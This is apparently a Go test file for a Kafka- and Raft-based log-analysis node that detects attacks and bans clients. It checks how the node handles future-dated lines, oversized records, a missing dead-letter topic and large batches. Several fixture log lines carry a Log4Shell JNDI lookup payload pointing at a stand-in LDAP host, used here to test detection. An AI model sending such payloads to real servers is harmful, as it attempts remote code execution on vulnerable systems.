package node

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/hashicorp/raft"
	"github.com/twmb/franz-go/pkg/kadm"
	"github.com/twmb/franz-go/pkg/kgo"

	"github.com/wardenhq/warden/analytics"
	"github.com/wardenhq/warden/fsm"
)

// Tests of hostile input: lines dated far ahead, records too large for the
// dead-letter topic, a dead-letter topic that is gone, batches too large
// for one commit. None may change what good lines produce, nor stall the
// partition.

// startOne starts a one-node cluster on c and waits until it owns every
// partition and holds the cluster configuration.
func startOne(t *testing.T, c *cluster) *Node {
	t.Helper()
	n := c.start("n1", 0)
	waitFor(t, 20*time.Second, "n1 owning every partition", func() bool {
		s := n.State()
		if s.Config == nil || len(s.Partitions) == 0 {
			return false
		}
		for _, p := range s.Partitions {
			if p.Owner != "n1" {
				return false
			}
		}
		return true
	})
	return n
}

// produceValues sends values to partition 0 of c's topic, each keyed by
// its first field, and returns the partition's end offset. Records up to
// 8 MiB go (compressed, the broker takes them up to 1 MiB).
func produceValues(t *testing.T, c *cluster, values ...[]byte) int64 {
	t.Helper()
	cl, err := kgo.NewClient(kgo.SeedBrokers(c.broker.Addr()), kgo.DefaultProduceTopic(c.topic),
		kgo.RecordPartitioner(kgo.ManualPartitioner()), kgo.ProducerBatchMaxBytes(8<<20))
	if err != nil {
		t.Fatal(err)
	}
	defer cl.Close()
	var recs []*kgo.Record
	for _, v := range values {
		key, _, _ := bytes.Cut(v, []byte(" "))
		recs = append(recs, &kgo.Record{Key: key, Value: v, Partition: 0})
	}
	res := cl.ProduceSync(context.Background(), recs...)
	if err := res.FirstErr(); err != nil {
		t.Fatalf("produce: %v", err)
	}
	return res[len(res)-1].Record.Offset + 1
}

// waitCommitted waits until partition 0 is committed up to end.
func waitCommitted(t *testing.T, n *Node, end int64, timeout time.Duration) {
	t.Helper()
	waitFor(t, timeout, fmt.Sprintf("partition 0 committed to %d", end), func() bool {
		s := n.State()
		return len(s.Partitions) > 0 && s.Partitions[0].Committed >= end
	})
}

// deadLetters reads the dead-letter topic until it holds want records.
func deadLetters(t *testing.T, c *cluster, want int) []*kgo.Record {
	t.Helper()
	cl, err := kgo.NewClient(kgo.SeedBrokers(c.broker.Addr()), kgo.ConsumeTopics(c.topic+".dlq"),
		kgo.ConsumeResetOffset(kgo.NewOffset().AtStart()), kgo.FetchMaxBytes(16<<20))
	if err != nil {
		t.Fatal(err)
	}
	defer cl.Close()
	var out []*kgo.Record
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	for len(out) < want && ctx.Err() == nil {
		cl.PollFetches(ctx).EachRecord(func(r *kgo.Record) { out = append(out, r) })
	}
	if len(out) != want {
		t.Fatalf("%d dead letters, want %d", len(out), want)
	}
	return out
}

// counter reads one of n's counters as /metrics shows it.
func counter(t *testing.T, n *Node, name string) float64 {
	t.Helper()
	mfs, err := n.metrics.reg.Gather()
	if err != nil {
		t.Fatal(err)
	}
	for _, mf := range mfs {
		if mf.GetName() == name {
			return mf.GetMetric()[0].GetCounter().GetValue()
		}
	}
	t.Fatalf("no metric %s", name)
	return 0
}

func header(r *kgo.Record, key string) string {
	for _, h := range r.Headers {
		if h.Key == key {
			return string(h.Value)
		}
	}
	return ""
}

func clf(ip string, at time.Time, path string) []byte {
	return []byte(fmt.Sprintf(`%s - - [%s] "GET %s HTTP/1.1" 200 512 "-" "Mozilla/5.0"`, ip, at.UTC().Format("02/Jan/2006:15:04:05 -0700"), path))
}

// TestNode_FutureLinesChangeNothing: lines dated 2200 (past the worker's
// clock by more than MaxClockSkew) and 2999 (past what int64 nanoseconds
// hold) are malformed and dead-lettered; the load windows, the detector's
// watermark and the decisions stay as they were. Before, a log4shell probe
// dated 2200 raised an alert there, the book pruned every decision at that
// time (all bans lifted, and no pruning ever after), and the windows
// expired.
func TestNode_FutureLinesChangeNothing(t *testing.T) {
	c := newCluster(t, 1)
	c.configure = func(cfg *Config) { cfg.LogFormat = "combined" } // auto gives its first candidate's reason
	n := startOne(t, c)
	now := time.Now().Add(-10 * time.Minute)
	end := produceValues(t, c,
		clf("192.0.2.10", now, "/"),
		clf("192.0.2.11", now, "/about"),
		clf("203.0.113.9", now, "/?q=${jndi:ldap://x.example/a}"),
	)
	waitCommitted(t, n, end, 30*time.Second)
	waitFor(t, 10*time.Second, "a decision against 203.0.113.9", func() bool { return len(n.Decisions(time.Now())) == 1 })

	type view struct {
		Stats     *analytics.Stats
		Watermark int64
		Decisions any
		Alerts    any
	}
	look := func() (view, string) {
		st := n.Stats(analytics.Query{})
		malformed := st.Malformed
		st.Malformed = 0
		_, det, _ := n.fsm.WorkerStart(0)
		v := view{Stats: st, Watermark: det.Watermark, Decisions: n.fsm.Decisions(true, time.Now()), Alerts: n.fsm.Alerts(time.Time{})}
		b, _ := json.Marshal(v)
		return v, fmt.Sprint(malformed, " ", string(b))
	}
	_, before := look()

	y2200 := time.Date(2200, 1, 1, 0, 0, 0, 0, time.UTC)
	future := [][]byte{
		clf("203.0.113.50", y2200, "/?q=${jndi:ldap://x.example/b}"),
		clf("192.0.2.10", y2200, "/"),
		clf("192.0.2.12", time.Now().Add(2*time.Hour), "/soon"),
		[]byte(`192.0.2.13 - - [01/Jan/2999:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua"`),
	}
	end = produceValues(t, c, future...)
	waitCommitted(t, n, end, 30*time.Second)

	v, after := look()
	wantBefore := strings.SplitN(before, " ", 2)
	gotAfter := strings.SplitN(after, " ", 2)
	if gotAfter[1] != wantBefore[1] {
		t.Errorf("future lines changed the state:\nbefore %s\nafter  %s", wantBefore[1], gotAfter[1])
	}
	if wantBefore[0] != "0" || gotAfter[0] != "4" {
		t.Errorf("malformed %s then %s, want 0 then 4", wantBefore[0], gotAfter[0])
	}
	if v.Stats.Requests != 3 {
		t.Errorf("requests %d, want 3", v.Stats.Requests)
	}
	var reasons []string
	for _, b := range n.MalformedInfo().Sample {
		reasons = append(reasons, b.Reason)
	}
	sort.Strings(reasons)
	if got := strings.Join(reasons, ","); got != "bad timestamp,future time,future time,future time" {
		t.Errorf("malformed sample reasons %s", got)
	}
	dl := deadLetters(t, c, 4)
	for i, r := range dl {
		if !bytes.Equal(r.Value, future[i]) || header(r, "warden-reason") == "" {
			t.Errorf("dead letter %d: %q (reason %q), want %q", i, r.Value, header(r, "warden-reason"), future[i])
		}
	}
}

// TestNode_OversizedRecordsDoNotStall: a 2 MB record, larger than the
// dead-letter topic takes, and a batch of many 60 KB records are
// dead-lettered (the 2 MB one cut to 64 KiB, with its length in a header)
// and the partition goes on. Before, producing the 2 MB copy failed
// forever and the partition stood still.
func TestNode_OversizedRecordsDoNotStall(t *testing.T) {
	c := newCluster(t, 1)
	n := startOne(t, c)
	now := time.Now().Add(-time.Minute)
	huge := append([]byte("192.0.2.20 "), bytes.Repeat([]byte("a"), 2_000_000)...)
	values := [][]byte{huge}
	for i := 0; i < 30; i++ {
		// Junk, and valid lines with a 60 KB path: each is 60 KB.
		values = append(values, append([]byte(fmt.Sprintf("192.0.2.%d junk ", 30+i)), bytes.Repeat([]byte{'b' + byte(i%20)}, 60_000)...))
		values = append(values, clf(fmt.Sprintf("192.0.2.%d", 100+i), now, "/"+strings.Repeat(fmt.Sprint(i), 60_000/len(fmt.Sprint(i)))))
	}
	values = append(values, clf("192.0.2.9", now, "/last"))
	end := produceValues(t, c, values...)
	waitCommitted(t, n, end, 60*time.Second)

	if st := n.Stats(analytics.Query{}); st.Requests != 31 || st.Malformed != 31 {
		t.Errorf("requests %d malformed %d, want 31 and 31", st.Requests, st.Malformed)
	}
	dl := deadLetters(t, c, 31)
	if got, want := len(dl[0].Value), deadLetterMaxValue; got != want || header(dl[0], "warden-truncated") != fmt.Sprint(len(huge)) ||
		header(dl[0], "warden-reason") != "line too long" || !bytes.Equal(dl[0].Value, huge[:want]) {
		t.Errorf("2 MB dead letter: %d bytes, truncated %q, reason %q", got, header(dl[0], "warden-truncated"), header(dl[0], "warden-reason"))
	}
	for _, r := range dl[1:] {
		if len(r.Value) < 60_000 || header(r, "warden-truncated") != "" {
			t.Errorf("60 KB dead letter: %d bytes, truncated %q", len(r.Value), header(r, "warden-truncated"))
		}
	}
	if got := counter(t, n, "warden_dead_letters_total"); got != 31 {
		t.Errorf("warden_dead_letters_total %g, want 31", got)
	}
}

// TestNode_MissingDeadLetterTopicDoesNotStall: with the dead-letter topic
// gone, bad lines are dropped from it after bounded retries and counted,
// and the partition goes on. Before, the worker retried forever.
func TestNode_MissingDeadLetterTopicDoesNotStall(t *testing.T) {
	c := newCluster(t, 1)
	n := startOne(t, c)
	adm := kadm.NewClient(n.kafka)
	waitFor(t, 10*time.Second, "the dead-letter topic", func() bool {
		td, err := adm.ListTopics(context.Background(), c.topic+".dlq")
		return err == nil && td.Has(c.topic+".dlq")
	})
	if _, err := adm.DeleteTopics(context.Background(), c.topic+".dlq"); err != nil {
		t.Fatal(err)
	}
	now := time.Now().Add(-time.Minute)
	end := produceValues(t, c, clf("192.0.2.1", now, "/"), []byte("192.0.2.2 junk"), []byte("all - - junk"))
	waitCommitted(t, n, end, 60*time.Second)
	if got := counter(t, n, "warden_dead_letters_dropped_total"); got != 2 {
		t.Errorf("warden_dead_letters_dropped_total %g, want 2", got)
	}
	// Later bad lines are dropped at once while the topic is still gone.
	start := time.Now()
	end = produceValues(t, c, []byte("192.0.2.3 junk"), clf("192.0.2.1", now, "/"))
	waitCommitted(t, n, end, 30*time.Second)
	if took := time.Since(start); took > 5*time.Second {
		t.Errorf("a later batch took %s", took)
	}
	if got := counter(t, n, "warden_dead_letters_dropped_total"); got != 3 {
		t.Errorf("warden_dead_letters_dropped_total %g, want 3", got)
	}
	if st := n.Stats(analytics.Query{}); st.Requests != 2 || st.Malformed != 3 {
		t.Errorf("requests %d malformed %d, want 2 and 3", st.Requests, st.Malformed)
	}
}

// TestNode_LargeBatchesAreCut: batches whose encoding passes the bound are
// cut smaller (the worker restarts from the FSM's state), every batch in
// the Raft log stays within the bound, and the records are still counted
// exactly once: with detection on the input's partitions (input keyed by
// client), and in the repartition stage, whose batches carry the detector
// deltas then.
func TestNode_LargeBatchesAreCut(t *testing.T) {
	for _, keyed := range []bool{true, false} {
		t.Run(fmt.Sprintf("keyed=%v", keyed), func(t *testing.T) {
			const bound = 12 << 10
			c := newCluster(t, 1)
			c.configure = func(cfg *Config) { cfg.maxBatchBytes, cfg.InputKeyedByClient = bound, keyed }
			p := newProducer(t, c.broker.Addr(), c.topic, 7)
			// Records wait in Kafka before the node starts: its first batch
			// takes the most records it may (2,000), which encode to about
			// 24 KB with their detector delta, a checkpoint of every bucket
			// (compressed; the batches after it, 2-6 KB).
			mustProduce(t, p, 6000)
			n := startOne(t, c)
			waitFor(t, 60*time.Second, "all records committed", func() bool { return p.caughtUp(n) })
			p.check(t, n)
			if !keyed {
				waitFor(t, 60*time.Second, "every line detected on", func() bool {
					return n.State().Partitions[0].ByClient.Applied == 6000
				})
			}

			// The second stage may still commit (markers): count once it
			// is quiet, the log and the state read at one applied index.
			waitFor(t, 20*time.Second, "the second stage quiet", func() bool {
				before := n.State().Partitions[0].ByClient.Commits
				time.Sleep(300 * time.Millisecond)
				return n.State().Partitions[0].ByClient.Commits == before
			})
			// The state and the index it was applied to, read together: a
			// marker's commit may still come after the quiet spell, and the
			// log may hold one not yet applied.
			s, applied := n.fsm.View()
			first, _ := n.bolt.FirstIndex()
			input, second := 0, 0
			for i := first; i <= applied; i++ {
				var l raft.Log
				if err := n.bolt.GetLog(i, &l); err != nil {
					t.Fatal(err)
				}
				cmd, err := fsm.Decode(l.Data)
				if err != nil || cmd.Kind != fsm.KindCommit {
					continue
				}
				for _, b := range cmd.Commit {
					if b.Stage == fsm.StageByClient {
						second++
					} else {
						input++
					}
					if size := len(fsm.EncodeBatch(&b)); size > bound {
						t.Errorf("a batch (stage %d) of [%d, %d) encodes to %d bytes, past %d", b.Stage, b.From, b.Until, size, bound)
					}
				}
			}
			if input != int(s.Partitions[0].Commits) || second != int(s.Partitions[0].ByClient.Commits) {
				t.Errorf("%d input and %d second-stage batches in the log; the state counts %d and %d", input, second,
					s.Partitions[0].Commits, s.Partitions[0].ByClient.Commits)
			}
			// 2,000 records a batch would make 3; the first, twice the
			// bound, is cut.
			if detecting := map[bool]int{true: input, false: second}[keyed]; detecting <= 3 {
				t.Errorf("%d batches carry the detector deltas; want more than 3", detecting)
			}
		})
	}
}

func TestBatchLimit(t *testing.T) {
	const maxBytes = 4 << 20
	cases := []struct{ limit, n, size, want int }{
		{40000, 40000, 1 << 20, 40000},           // typical: under a quarter, stays at the cap
		{10000, 10000, 512 << 10, 20000},         // small: doubles back
		{40000, 40000, 54 << 20, 40000 * 2 / 54}, // hostile: aims at half the bound
		{40000, 1, 3 << 20, 1},                   // one record: never zero
		{1000, 1000, 2 << 20, 1000},              // at half the bound: stays
	}
	for _, c := range cases {
		if got := batchLimit(c.limit, c.n, c.size, 40000, maxBytes); got != c.want {
			t.Errorf("batchLimit(%d, %d, %d) = %d, want %d", c.limit, c.n, c.size, got, c.want)
		}
	}
}

// TestReuseRecords_KeepsNoRecord checks that a worker's emptied batch
// keeps none of the previous batch's records in its backing array (each
// would keep its fetch's decompressed bytes alive while the worker idles).
func TestReuseRecords_KeepsNoRecord(t *testing.T) {
	recs := make([]*kgo.Record, 0, 8)
	for range 5 {
		recs = append(recs, &kgo.Record{Value: []byte("line")})
	}
	recs = reuseRecords(recs[:2]) // a shorter batch came last
	if len(recs) != 0 || cap(recs) != 8 {
		t.Fatalf("len %d cap %d, want 0 and the same array", len(recs), cap(recs))
	}
	for i, r := range recs[:cap(recs)] {
		if r != nil {
			t.Fatalf("slot %d still holds a record", i)
		}
	}
}

// TestSubscription_PollKeepsNoRecordAndItsRoom checks that a poll hands
// the records over in order, keeps none it handed over in its backing
// array (each would keep its fetch from the collector), and keeps the
// array's room for the next pushes.
func TestSubscription_PollKeepsNoRecordAndItsRoom(t *testing.T) {
	f := &fetcher{pauseAt: 1 << 30, resumeAt: 1 << 29}
	s := &subscription{f: f, ready: make(chan struct{}, 1)}
	next, want := int64(0), int64(0)
	push := func(n int) {
		recs := make([]*kgo.Record, n)
		for i := range recs {
			recs[i] = &kgo.Record{Offset: next, Value: []byte("line")}
			next++
		}
		s.push(recs)
	}
	var got []*kgo.Record
	for _, step := range []struct{ push, poll int }{{100, 30}, {0, 30}, {50, 200}, {10, 5}} {
		push(step.push)
		before := cap(s.recs)
		got, _ = s.poll(context.Background(), got[:0], step.poll)
		for _, r := range got {
			if r.Offset != want {
				t.Fatalf("record %d handed over, want %d", r.Offset, want)
			}
			want++
		}
		if cap(s.recs) != before {
			t.Fatalf("capacity %d after a poll, was %d", cap(s.recs), before)
		}
		for i, r := range s.recs[len(s.recs):cap(s.recs)] {
			if r != nil {
				t.Fatalf("slot %d past the %d records held still holds record %d", len(s.recs)+i, len(s.recs), r.Offset)
			}
		}
	}
	if want != next-5 || len(s.recs) != 5 {
		t.Fatalf("%d handed over and %d held, want %d and 5", want, len(s.recs), next-5)
	}
}
